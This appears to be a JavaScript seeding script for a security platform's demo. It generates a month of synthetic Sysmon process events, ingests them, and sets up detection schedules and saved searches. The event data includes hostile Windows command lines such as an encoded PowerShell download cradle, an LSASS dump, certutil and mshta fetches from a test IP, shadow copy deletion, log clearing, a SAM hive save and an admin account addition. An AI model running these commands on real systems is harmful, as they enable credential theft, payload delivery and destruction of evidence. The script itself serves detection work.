// A month before the demo's day, for the documentation's pictures: events that rules are for among others, saved searches, schedules.
const COMMANDS = [
  ['powershell.exe', 'powershell.exe -NoP -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA', 'WINWORD.EXE', 9],
  ['rundll32.exe', 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Windows\\Temp\\l.dmp full', 'cmd.exe', 1],
  ['certutil.exe', 'certutil.exe -urlcache -split -f http://203.0.113.50/u.exe C:\\Users\\Public\\u.exe', 'cmd.exe', 5],
  ['vssadmin.exe', 'vssadmin.exe delete shadows /all /quiet', 'cmd.exe', 1],
  ['wevtutil.exe', 'wevtutil.exe cl Security', 'cmd.exe', 2],
  ['mshta.exe', 'mshta.exe http://203.0.113.50/a.hta', 'explorer.exe', 3],
  ['reg.exe', 'reg.exe save HKLM\\SAM C:\\Windows\\Temp\\sam.hiv', 'cmd.exe', 1],
  ['net.exe', 'net.exe localgroup administrators svc_backup /add', 'cmd.exe', 4],
];
const USUAL = [['svchost.exe', 'svchost.exe -k netsvcs -p -s Schedule', 'services.exe'], ['git.exe', 'git.exe fetch --all', 'explorer.exe'], ['taskhostw.exe', 'taskhostw.exe KEYROAMING', 'svchost.exe']];
const HOSTS = ['WKS-014', 'WKS-022', 'WKS-031', 'FS-01', 'DC-01'];
const USERS = ['l.berg', 'a.novak', 'm.kaya', 'svc_backup', 's.lind'];
const DAYS = 30;

const record = (t, [image, command, parent], n) => ({ '@timestamp': new Date(t).toISOString(), winlog: { channel: 'Microsoft-Windows-Sysmon/Operational', event_id: '1', computer_name: `${HOSTS[n % HOSTS.length]}.halden.example`, provider_name: 'Microsoft-Windows-Sysmon', record_id: n, event_data: { UtcTime: new Date(t).toISOString().replace('T', ' ').replace('Z', ''), ProcessId: String(1000 + n), Image: `C:\\Windows\\System32\\${image}`, CommandLine: command, User: `HALDEN\\${USERS[n % USERS.length]}`, ParentImage: `C:\\Windows\\System32\\${parent}`, IntegrityLevel: 'Medium' } } });

/** @param {{ base: string, user: string, password: string }} platform */
export async function tellTheMonthBefore({ base, user, password }) {
  const login = await fetch(`${base}/v1/auth/login`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ username: user, password }) });
  const cookie = login.headers.getSetCookie().map((c) => c.split(';')[0]).join('; ');
  const { csrf } = await login.json();
  const post = async (path, body) => {
    const r = await fetch(base + path, { method: 'POST', headers: { cookie, 'content-type': 'application/json', 'x-marsad-csrf': csrf }, body: JSON.stringify(body) });
    if (!r.ok) throw new Error(`${path}: ${r.status} ${await r.text()}`);
    return r.json();
  };
  const now = Date.now();
  const events = [];
  for (let d = 1; d < DAYS; d++) {
    const busy = 1 + ((d * 7) % 5) * ([0, 6].includes(new Date(now - d * 86_400_000).getUTCDay()) ? 0.3 : 1);
    const at = (n) => now - d * 86_400_000 - ((n * 7919) % 36_000) * 1000;
    for (const [i, kind] of COMMANDS.entries()) if ((d * 3 + i) % 4 !== 0) for (let n = 0; n < Math.round((kind[3] * busy) / 4); n++) events.push(record(at(n + i * 5), kind, events.length));
    for (let n = 0; n < 60; n++) events.push(record(at(n), USUAL[n % USUAL.length], events.length));
  }
  const schedule = (name, cron, query, alert) => post('/v1/schedules', { name, cron, query, time_zone: 'UTC', alert });
  await schedule('Sign-ins at night', '0 5 * * 1-5', 'activity_name = Logon | stats count by user, host', null);
  await schedule('Service accounts that start shells', '*/15 * * * *', 'process.user.name in (svc_backup, build-bot) and process in (cmd.exe, powershell.exe, bash, sh)', { severity: 'high', threshold: 1 });
  const token = await post('/v1/tokens', { name: 'edr-archive', permissions: ['ingest:write'] });
  const sent = await fetch(`${base}/v1/ingest/batch?source_format=windows`, { method: 'POST', headers: { authorization: `Bearer ${token.secret}`, 'content-type': 'application/x-ndjson' }, body: events.map((e) => JSON.stringify(e)).join('\n') });
  if (sent.status !== 202) throw new Error(`${sent.status} ${await sent.text()}`);
  for (;;) {
    const { total } = await post('/v1/events/histogram', { query: 'parent exists', from: new Date(now - 32 * 86_400_000).toISOString(), to: new Date(now - 3_600_000).toISOString(), buckets: 1 });
    if (total >= events.length) break;
    await new Promise((later) => setTimeout(later, 300));
  }
  const view = (name, query, more = {}) => post('/v1/views', { name, query, last: '24h', shared: false, display: 'events', columns: [], ...more });
  await view('Downloads by system tools', 'process in (certutil.exe, bitsadmin.exe, mshta.exe)', { last: '7d', shared: true, description: 'Tools of Windows that fetch from the internet' });
  await view('Encoded commands', 'process = powershell.exe and cmd contains " -enc"', { last: '30d', shared: true });
  await view('Failed sign-ins by user', 'activity_name = Logon and status_id = 2 | stats count, dc(src) by user | sort -count', { display: 'chart' });
  await view('What svc_backup does', 'process.user.name = svc_backup and not host = FS-01*', { last: '7d' });
}
